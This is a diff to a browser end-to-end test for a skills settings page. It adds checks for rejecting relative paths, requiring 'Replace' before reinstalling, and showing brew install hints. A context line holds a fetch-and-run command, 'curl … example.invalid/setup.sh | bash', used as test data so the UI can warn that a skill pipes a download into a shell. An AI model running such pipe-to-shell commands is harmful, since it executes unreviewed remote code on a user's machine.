@@ -181,6 +181,12 @@ describe.skipIf(!hasChromium)('Settings › Skills in Chromium', () => {
       expect(await row.getByRole('button', { name: /Delete/ }).count()).toBe(0);
     }
 
+    // A source the gateway cannot take: its reason, as an alert, and nothing to install.
+    await page.getByLabel('Folder, archive URL or git URL').fill('skills/pdf-tools');
+    await page.getByRole('button', { name: 'Check' }).click();
+    await page.getByRole('alert').filter({ hasText: 'is not an absolute path' }).waitFor();
+    expect(await page.getByTestId('skill-preview').count()).toBe(0);
+
     await checkAndInstall(page, folder, 'pdf-tools', [
       'brew install qpdf',
       `curl -fsSL https://example.invalid/setup.sh | bash && touch ${marker}`,
@@ -196,6 +202,17 @@ describe.skipIf(!hasChromium)('Settings › Skills in Chromium', () => {
       '/skills/csv-tools.tar.gz',
       '/skills/csv-tools.tar.gz',
     ]);
+
+    // Checked again, it is there already: installing over it needs "Replace" ticked.
+    await page.getByLabel('Folder, archive URL or git URL').fill(folder);
+    await page.getByRole('button', { name: 'Check' }).click();
+    const replace = page.getByRole('checkbox', { name: 'Replace the installed pdf-tools' });
+    await replace.waitFor();
+    const again = page.getByRole('button', { name: 'Install pdf-tools' });
+    expect(await again.isDisabled()).toBe(true);
+    await replace.check();
+    await again.click();
+    await page.getByRole('status').filter({ hasText: 'Installed pdf-tools.' }).waitFor();
 
     // The same sources through the CLI, on a twin home: the same files, modes and bytes.
     const twin = tempHome();
@@ -261,12 +278,15 @@ describe.skipIf(!hasChromium)('Settings › Skills in Chromium', () => {
     writeSkill(
       join(run.workspace, 'skills'),
       'notes-sync',
-      ['description: Sync notes with a WebDAV share.', `metadata: {"nanobot":{"requires":{"env":["${MISSING_ENV}"]}}}`],
+      [
+        'description: Sync notes with a WebDAV share.',
+        `metadata: {"nanobot":{"requires":{"env":["${MISSING_ENV}"]},"install":[{"kind":"brew","formula":"davfs2"}]}}`,
+      ],
       [],
     );
     for (const colorScheme of ['light', 'dark'] as const) {
       const { context, page } = await openSettings(browser, run, 'skills', { colorScheme });
-      await rowOf(page, 'notes-sync').waitFor();
+      await rowOf(page, 'notes-sync').getByText('brew install davfs2').waitFor();
       await page.getByLabel('Folder, archive URL or git URL').fill(shown);
       await page.getByRole('button', { name: 'Check' }).click();
       await page.getByTestId('skill-preview').getByText('pipes a download into a shell').waitFor();
